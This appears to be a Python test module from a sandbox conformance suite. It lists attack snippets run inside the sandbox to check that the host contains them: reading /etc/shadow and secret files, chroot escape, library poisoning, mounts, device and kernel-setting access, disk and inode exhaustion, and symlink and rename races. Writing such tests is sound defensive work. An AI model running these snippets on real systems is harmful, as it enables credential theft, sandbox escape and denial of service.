"""The host's files read and written, its disks filled, and tricks on whoever reads a file of the working folder."""

from __future__ import annotations

import asyncio
import contextlib

from tests.conformance.attacks.base import Attack, Outcome, Place, leaks, says, slower, written
from tests.conformance.attacks.host import Host
from tests.conformance.attacks.processes import DAEMON


def read_by(*paths: str) -> str:
    return f"""
for path in {list(paths)!r}:
    try:
        print(open(path).read(100000))
    except (OSError, UnicodeDecodeError) as error:
        print(path, error)
"""


async def get_loot(place: Place, host: Host, outcome: Outcome) -> None:
    """Read `loot` some hundred times, while the code may be at it."""
    for _ in range(300):
        with contextlib.suppress(OSError, ValueError):
            outcome.files["loot"] = outcome.files.get("loot", b"")[: 1 << 16] + (await place.get("loot"))[:4096]
        await asyncio.sleep(0.001)


async def put_through(place: Place, host: Host, outcome: Outcome) -> None:
    for path in ("link", f"folder/written-{host.nonce}", f"sub/folder/written-{host.nonce}"):
        with contextlib.suppress(OSError, ValueError):
            await place.put(path, "written by the host")


async def get_secret(place: Place, host: Host, outcome: Outcome) -> None:
    for path in ("secret", "folder/secret", f"secret-{host.nonce}"):
        with contextlib.suppress(OSError, ValueError):
            outcome.files[path] = await place.get(path)


ATTACKS = (
    Attack(
        "reads_host_files",
        "reads the host's files",
        """
for path in @SECRET_FILES@:
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
""",
        leaks,
        lasting=True,
    ),
    Attack("reads_shadow", "reads the host's password hashes", read_by("/etc/shadow", "/etc/shadow-"), leaks),
    Attack(
        "reads_through_proc",
        "reads the host's files through other processes' roots",
        """
import glob
for root in ["/proc/1/root", "/proc/1/cwd", "/proc/self/root", *glob.glob("/proc/[0-9]*/root")]:
    for path in @SECRET_FILES@:
        try:
            print(open(root + path).read())
        except OSError:
            pass
""",
        leaks,
    ),
    Attack(
        "leaves_by_chroot",
        "leaves its root as root can",
        """
try:
    os.makedirs("jail", exist_ok=True)
    here = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    print(error)
for path in @SECRET_FILES@:
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
""",
        leaks,
    ),
    Attack(
        "opens_by_handle",
        "opens the host's files by their numbers",
        """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
for path in ("/", "/etc", "/usr", ".", "/tmp"):
    handle = ctypes.create_string_buffer(136)
    struct.pack_into("I", handle, 0, 128)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0) == 0:
        fd = os.open(path, os.O_RDONLY)
        if libc.open_by_handle_at(fd, handle, os.O_RDONLY) >= 0:
            pwned(path)
""",
        says,
        everywhere=False,
    ),
    Attack(
        "writes_outside",
        "changes the host's files",
        """
for path in @OUTSIDE@:
    try:
        with open(path, "w") as f:
            f.write("x")
    except OSError as error:
        print(error)
""",
        written,
        lasting=True,
    ),
    Attack(
        "poisons_libraries",
        "changes what every later run imports",
        """
import json
try:
    with open(json.__file__, "r+b") as f:
        pwned("opened", json.__file__, "for writing")
except OSError as error:
    print(error)
for folder in {*sys.path, os.path.dirname(os.__file__), os.path.dirname(sys.executable)}:
    if folder and folder not in (os.getcwd(), "/tmp") and os.path.isdir(folder) and os.access(folder, os.W_OK):
        pwned("may write", folder)
""",
        says,
    ),
    Attack(
        "poisons_the_next_run",
        "leaves modules that a later run imports",
        "try:\n    import poison_@NONCE@ as found\n    pwned(found.__file__)\nexcept ImportError:\n    pass\n",
        says,
        earlier="""
import sysconfig
for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), sysconfig.get_paths()["purelib"]):
    try:
        with open(folder + "/poison_@NONCE@.py", "w") as f:
            f.write("x = 1")
    except OSError:
        pass
""",
    ),
    Attack(
        "mounts",
        "lays its own files over the host's",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("m", exist_ok=True)
if os.fork() == 0:
    if libc.unshare(0x20000) == 0:
        libc.mount(b"none", b"/", None, 0x44000, None)
    for kind in (b"tmpfs", b"proc"):
        if libc.mount(b"none", b"m", kind, 0, None) == 0:
            pwned("mounted", kind)
            libc.umount2(b"m", 2)
    os._exit(0)
os.wait()
""",
        says,
    ),
    Attack(
        "mounts_by_the_new_calls",
        "lays its own files over the host's",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number, *arguments in ((428, -100, b"/", 1), (430, b"tmpfs", 0)):
    if libc.syscall(number, *arguments) >= 0:
        pwned("system call", number)
""",
        says,
        everywhere=False,
    ),
    Attack(
        "makes_devices",
        "makes a device of its own, such as the host's disk",
        """
try:
    os.mknod("device", 0o20666, os.makedev(1, 3))
    os.close(os.open("device", os.O_RDWR))
    pwned("made and opened a device")
except OSError as error:
    print(error)
""",
        says,
        everywhere=False,
    ),
    Attack(
        "opens_devices",
        "opens the host's devices",
        """
import stat
harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr", "console"}
for name in sorted(os.listdir("/dev") if os.path.isdir("/dev") else ()):
    path = "/dev/" + name
    try:
        mode = os.stat(path).st_mode
        if name not in harmless and not name.startswith("tty") and (stat.S_ISCHR(mode) or stat.S_ISBLK(mode)):
            if name in ("kmsg", "mem", "kvm", "fuse") or stat.S_ISBLK(mode):
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                pwned(path)
    except OSError:
        pass
""",
        says,
        everywhere=False,
    ),
    Attack(
        "changes_the_kernels_settings",
        "changes the kernel's settings",
        """
for path in ("/proc/sys/vm/swappiness", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/panic", "/proc/sysrq-trigger"):
    try:
        os.close(os.open(path, os.O_WRONLY))
        pwned(path)
    except OSError as error:
        print(error)
""",
        says,
    ),
    Attack(
        "makes_control_groups",
        "leaves its control group, and with it its limits",
        """
import glob
for path in ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")]:
    try:
        os.mkdir(path + "/@NONCE@")
        pwned(path)
    except OSError:
        pass
    try:
        os.close(os.open(path + "/cgroup.procs", os.O_WRONLY))
        pwned(path, "cgroup.procs")
    except OSError:
        pass
""",
        says,
    ),
    Attack(
        "fills_the_disk",
        "fills the host's disk",
        """
block = b"x" * (1 << 20)
total = 0
for folder in (".", "/tmp", "/var/tmp", "/home", "/srv", "/run"):
    try:
        with open(folder + "/@NONCE@.left", "wb", 0) as f:
            for _ in range(120):
                total += f.write(block)
    except OSError as error:
        print(folder, error)
if total > 200 << 20:
    pwned(total >> 20, "MiB")
""",
        says,
        lasting=True,
    ),
    Attack(
        "fills_the_disk_with_hidden_files",
        "fills the host's disk by files that have no name",
        """
block = b"x" * (1 << 20)
total = 0
kept = []
try:
    for number in range(20):
        f = open(f"f{number}", "wb", 0)
        os.unlink(f"f{number}")
        kept.append(f)
        for _ in range(15):
            total += f.write(block)
except OSError as error:
    print(error)
if total > 200 << 20:
    pwned(total >> 20, "MiB")
""",
        says,
    ),
    Attack(
        "allocates_the_disk",
        "fills the host's disk without writing",
        """
total = 0
try:
    for number in range(4):
        fd = os.open(f"f{number}", os.O_CREAT | os.O_RDWR)
        os.posix_fallocate(fd, 0, 100 << 20)
        total += 100
except OSError as error:
    print(error)
if total >= 400:
    pwned(total, "MiB")
""",
        says,
    ),
    Attack(
        "fills_the_inodes",
        "takes the host's inodes",
        """
made = 0
try:
    for folder in range(20):
        os.mkdir(f"d{folder}")
        for number in range(1000):
            os.close(os.open(f"d{folder}/{number}", os.O_CREAT | os.O_WRONLY))
            made += 1
except OSError as error:
    print(made, error)
if made >= 20000:
    pwned(made, "files")
""",
        says,
        timeout=20.0,
        lasting=True,
    ),
    Attack(
        "dumps_core",
        "fills the host's disk with memory images",
        """
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
if hard > 1 or hard < 0:  # with 1 there is none either
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
        pwned("may dump core")
    except (OSError, ValueError) as error:
        print(error)
""",
        says,
        everywhere=False,
    ),
    Attack(
        "link_fetched",
        "has the host read its own files, by a symbolic link",
        'os.symlink("@FOLDER@/secret", "loot")\n',
        leaks,
        fetch=("loot",),
        lasting=True,
    ),
    Attack(
        "linked_folder_fetched",
        "has the host read its own files, by a folder that is a symbolic link",
        'os.symlink("@FOLDER@", "folder")\n',
        leaks,
        fetch=("folder/secret",),
        lasting=True,
    ),
    Attack(
        "proc_link_fetched",
        "has the host read its own files, through /proc",
        'os.symlink("/proc/self/root@FOLDER@/secret", "loot")\nos.symlink("/proc/self/environ", "loot2")\n',
        leaks,
        fetch=("loot", "loot2"),
    ),
    Attack(
        "hard_link_fetched",
        "has the host read its own files, by a hard link",
        """
for path in @SECRET_FILES@:
    try:
        os.link(path, "loot")
    except OSError as error:
        print(error)
""",
        leaks,
        fetch=("loot",),
        everywhere=False,
    ),
    Attack(
        "fifo_fetched",
        "holds up whoever fetches its files",
        'os.mkfifo("loot")\n',
        slower(3.0),
        fetch=("loot",),
        timeout=10.0,
        lasting=True,
    ),
    Attack(
        "race_on_get",
        "has the host read its own files, by a file that becomes a link while it is read",
        DAEMON
        + """
import threading
def race():
    new = f"next{threading.get_native_id()}"
    end = time.time() + 5
    while time.time() < end:
        try:
            os.symlink("@FOLDER@/secret", new)
            os.rename(new, "loot")
            with open(new, "w") as f:
                f.write("nothing")
            os.rename(new, "loot")
        except OSError:
            pass
        time.sleep(0.0001)
daemon(race)
threading.Thread(target=race, daemon=True).start()
time.sleep(0.05)
""",
        leaks,
        then=get_loot,
    ),
    Attack(
        "put_through_a_link",
        "has the host write its own files",
        """
os.symlink("@FOLDER@/open/written-@NONCE@", "link")
os.symlink("@FOLDER@/open", "folder")
os.mkdir("sub")
os.symlink("@FOLDER@/open", "sub/folder")
""",
        written,
        then=put_through,
    ),
    Attack(
        "folder_replaced",
        "has the host read its own files, by a working folder that is a link by then",
        """
here = os.getcwd()
for path in (here,):
    try:
        os.rename(here, here + ".moved")
        os.symlink("@FOLDER@", here)
    except OSError as error:
        print(error)
""",
        leaks,
        then=get_secret,
    ),
)
